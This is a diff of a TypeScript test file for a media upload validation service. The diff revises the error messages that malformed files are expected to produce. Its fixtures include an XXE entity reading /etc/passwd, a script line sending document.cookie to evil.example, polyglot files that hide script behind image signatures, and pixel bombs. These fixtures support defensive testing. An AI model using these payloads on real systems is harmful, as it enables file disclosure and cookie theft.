@@ -35,7 +35,8 @@ export interface GateFile {
 const EARLY = 'ends before it is whole'
 const UNKNOWN = 'are of no type this service knows'
 const DAMAGED = 'has damaged pixels'
-const UNREADABLE = 'cannot be read'
+const NO_PICTURE = 'holds no picture that can be read'
+const NO_TRACK = 'holds no track that can be read'
 
 const readyAs = (type: string): Outcome => ({ readyAs: type })
 const failedFor = (phrase: string): Outcome => ({ failedFor: phrase })
@@ -55,11 +56,11 @@ const samples: [string, Outcome][] = [
   ['animated.png', readyAs('image/png')],
   ['big.avif', readyAs('image/avif')],
   ['bomb20k.png', failedFor('megapixels')],
-  ['corrupt.jpg', failedFor(DAMAGED)],
-  ['flac.ogg', readyAs('audio/ogg')],
+  ['corrupt.jpg', failedFor(NO_PICTURE)],
+  ['flac.ogg', failedFor(NO_TRACK)],
   ['fragments.mp4', readyAs('video/mp4')],
   ['gapless.mp3', readyAs('audio/mpeg')],
-  ['garbage.mp4', failedFor(EARLY)],
+  ['garbage.mp4', failedFor(NO_TRACK)],
   ['gps.jpg', readyAs('image/jpeg')],
   ['html.png', isType('text/html')],
   ['i.avif', readyAs('image/avif')],
@@ -129,7 +130,9 @@ const generated: [string, MakeBytes, Outcome][] = [
   ['an SVG with a prolog', literally('<?xml version="1.0"?><!DOCTYPE svg><svg/>'), isType('image/svg+xml')],
   [
     'XML',
-    literally('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
+    literally(
+      '<?xml version="1.0"?><!DOCTYPE fern [<!ENTITY b SYSTEM "file:///etc/passwd">]><fern>&b;</fern>',
+    ),
     isType('application/xml'),
   ],
   ['JavaScript', literally('fetch("//evil.example/" + document.cookie)\n'), failedFor(UNKNOWN)],
@@ -153,26 +156,26 @@ const generated: [string, MakeBytes, Outcome][] = [
   ['a FLAC', literally('fLaC', Buffer.alloc(64)), isType('audio/flac')],
   ['zeros', () => Buffer.alloc(4096), failedFor(UNKNOWN)],
 
-  ['only the signature of a JPEG', literally(JPEG_START), failedFor(UNREADABLE)],
-  ['only the signature of a PNG', literally(0x89, 'PNG\r\n\x1a\n'), failedFor(EARLY)],
-  ['only the signature of a GIF', literally('GIF89a'), failedFor(UNREADABLE)],
-  ['only the signature of a WebP', literally('RIFF', 0, 0, 0, 0, 'WEBP'), failedFor(UNREADABLE)],
-  ['only the brand of an AVIF', () => isoOf('avif'), failedFor(UNREADABLE)],
-  ['only the brand of a HEIC', () => isoOf('heic'), failedFor(UNREADABLE)],
-  ['only the brand of a HEIF', () => isoOf('mif1'), failedFor(UNREADABLE)],
-  ['only the brand of an MP4', () => isoOf('isom'), failedFor(UNREADABLE)],
-  ['only the brand of a QuickTime film', () => isoOf('qt  '), failedFor(UNREADABLE)],
+  ['only the signature of a JPEG', literally(JPEG_START), failedFor(NO_PICTURE)],
+  ['only the signature of a PNG', literally(0x89, 'PNG\r\n\x1a\n'), failedFor(UNKNOWN)],
+  ['only the signature of a GIF', literally('GIF89a'), failedFor(EARLY)],
+  ['only the signature of a WebP', literally('RIFF', 0, 0, 0, 0, 'WEBP'), failedFor(NO_PICTURE)],
+  ['only the brand of an AVIF', () => isoOf('avif'), failedFor(NO_PICTURE)],
+  ['only the brand of a HEIC', () => isoOf('heic'), failedFor(NO_PICTURE)],
+  ['only the brand of a HEIF', () => isoOf('mif1'), failedFor(NO_PICTURE)],
+  ['only the brand of an MP4', () => isoOf('isom'), failedFor(NO_TRACK)],
+  ['only the brand of a QuickTime film', () => isoOf('qt  '), failedFor(NO_TRACK)],
   ['only the head of a WebM', literally(WEBM_HEAD), failedFor(UNKNOWN)],
-  ['only the tag of an MP3', () => id3(0), failedFor(UNREADABLE)],
-  ['only one sync word of an MP3', literally(0xff, 0xfb, 0x90, 0), failedFor(UNREADABLE)],
-  ['only the head of a WAV', literally('RIFF', 0, 0, 0, 0, 'WAVE'), failedFor(UNREADABLE)],
+  ['only the tag of an MP3', () => id3(0), failedFor(UNKNOWN)],
+  ['only one sync word of an MP3', literally(0xff, 0xfb, 0x90, 0), failedFor('no frame')],
+  ['only the head of a WAV', literally('RIFF', 0, 0, 0, 0, 'WAVE'), failedFor('WAV without a format')],
   ['only the signature of an Ogg', literally('OggS'), failedFor(UNKNOWN)],
   ['only the signature of a PDF', literally('%PDF-1.7\n'), failedFor(EARLY)],
 
   ['a PNG bomb of 400 megapixels', () => pngOf(20_000, 20_000), failedFor('400 megapixels')],
   ['a PNG of 4 gigapixels', () => pngOf(65_535, 65_535), failedFor('megapixels')],
-  ['a PNG with no row of its pixels', () => pngOf(64, 64), failedFor(EARLY)],
-  ['a PNG without area', () => pngOf(0, 0), failedFor(UNREADABLE)],
+  ['a PNG with no row of its pixels', () => pngOf(64, 64), failedFor(DAMAGED)],
+  ['a PNG without area', () => pngOf(0, 0), failedFor(NO_PICTURE)],
   ['a GIF with a huge logical screen', () => gifOnScreen(65_535, 65_535), failedFor('megapixels')],
   [
     'a JPEG with a huge frame',
@@ -182,19 +185,19 @@ const generated: [string, MakeBytes, Outcome][] = [
   [
     'an animated WebP on a huge canvas',
     patched('anim.webp', 'VP8X', 8, Buffer.of(0xff, 0x3f, 0, 0xff, 0x3f, 0)),
-    failedFor('megapixels'),
+    failedFor(NO_PICTURE),
   ],
   [
     'a JPEG full of damage',
     async () => (await sampleBytes('i.jpg')).fill(0x55, 2000, 30_000),
-    failedFor(DAMAGED),
+    failedFor(EARLY),
   ],
   ['a PNG with a wrong checksum', patched('i.png', 'IDAT', 100, Buffer.of(1, 2, 3, 4)), failedFor(DAMAGED)],
-  ['garbage in an MP4', () => isoOf('isom', ['moov', Buffer.alloc(512, 0xa5)]), failedFor(UNREADABLE)],
+  ['garbage in an MP4', () => isoOf('isom', ['moov', Buffer.alloc(512, 0xa5)]), failedFor(NO_TRACK)],
   [
     'an MP4 without tracks',
     () => isoOf('isom', ['mdat', Buffer.alloc(512)], ['free', Buffer.alloc(8)]),
-    failedFor(UNREADABLE),
+    failedFor(NO_TRACK),
   ],
   [
     'a RIFF that is neither sound nor picture',
@@ -204,28 +207,28 @@ const generated: [string, MakeBytes, Outcome][] = [
   ['an AVI', () => riffOf('AVI ', 'LIST', Buffer.alloc(64)), isType('video/vnd.avi')],
   ['a Matroska film', () => ebmlOf('matroska'), isType('video/matroska')],
   ['EBML of another kind', () => ebmlOf('fern'), failedFor(UNKNOWN)],
-  ['a WebM without tracks', () => ebmlOf('webm'), failedFor(UNREADABLE)],
+  ['a WebM without tracks', () => ebmlOf('webm'), failedFor(NO_TRACK)],
   [
     'text behind an ID3 tag',
     () => joined(id3(64), 'This is no music at all. '.repeat(40)),
-    failedFor('no frame'),
+    failedFor(UNKNOWN),
   ],
   [
     'a page behind an ID3 tag',
     () => joined(id3(64), '<html><script>alert(1)</script></html>'),
-    failedFor('no frame'),
+    failedFor(UNKNOWN),
   ],
   ['a PDF without pages', () => pdfOf(0), failedFor('PDF without pages')],
   ['a PDF without a trailer', () => pdfOf(1, false), failedFor(EARLY)],
   [
     'a page behind the signature of a GIF',
     literally('GIF89a/*<html><script>alert(1)</script>*/=1'),
-    failedFor(UNREADABLE),
+    failedFor('GIF with damaged blocks'),
   ],
   [
     'a page behind the signature of a PNG',
     literally(0x89, 'PNG\r\n\x1a\n<html><script>alert(1)</script>'),
-    failedFor(UNREADABLE),
+    failedFor(UNKNOWN),
   ],
   [
     'a page behind the signature of a PDF',
@@ -235,7 +238,7 @@ const generated: [string, MakeBytes, Outcome][] = [
   [
     'a script behind the start of a JPEG',
     literally(JPEG_START, '/*', 'x'.repeat(100), '*/alert(1)'),
-    failedFor(UNREADABLE),
+    failedFor(NO_PICTURE),
   ],
 
   ['a hand-written PDF', () => pdfOf(1), readyAs('application/pdf')],
